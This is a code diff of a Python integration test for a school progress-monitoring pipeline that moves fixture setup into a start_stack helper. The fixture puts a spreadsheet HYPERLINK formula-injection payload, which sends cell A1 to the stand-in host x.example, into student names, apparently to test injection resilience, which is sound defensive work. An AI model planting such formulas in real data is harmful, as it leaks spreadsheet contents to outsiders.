@@ -32,7 +32,7 @@ from progress_monitor.contracts import RunId
 from progress_monitor.health import resume_run
 from progress_monitor.replay import reextract
 from progress_monitor.settings import Settings
-from tests.pipeline_world import BIG_TAG, OTHER_TAG, SMALL_TAG, WEEKS, world
+from tests.pipeline_world import BIG_TAG, OTHER_TAG, SMALL_TAG, WEEKS, start_stack, world
 
 pytestmark = pytest.mark.integration
 ROOT = Path(__file__).resolve().parents[1]
@@ -41,22 +41,12 @@ FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"ver")'
 
 @pytest.fixture(scope="module")
 def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
-    workdir = tmp_path_factory.mktemp("resilience")
     school = world()
     for user in school["users"]:  # students edit their own names in Cademi
         if 2001 <= user["id"] < 3000:
             user["nome"] = FORMULA
             user["celular"] = "+55 21 99999-0000"
-    scenario = workdir / "scenario.json"
-    scenario.write_text(json.dumps(school))
-    stack = LocalStack.start(
-        workdir,
-        scenario,
-        piece_budget_s=1.0,
-        ack_deadline_s=30,
-        extra_env={"CADEMI_BACKOFF_BASE_S": "0.05", "CADEMI_BACKOFF_CAP_S": "0.3", "CADEMI_MAX_ATTEMPTS": "4"},
-    )
-    stack.use_here()
+    stack = start_stack(tmp_path_factory.mktemp("resilience"), school)
     yield stack
     stack.stop()
 
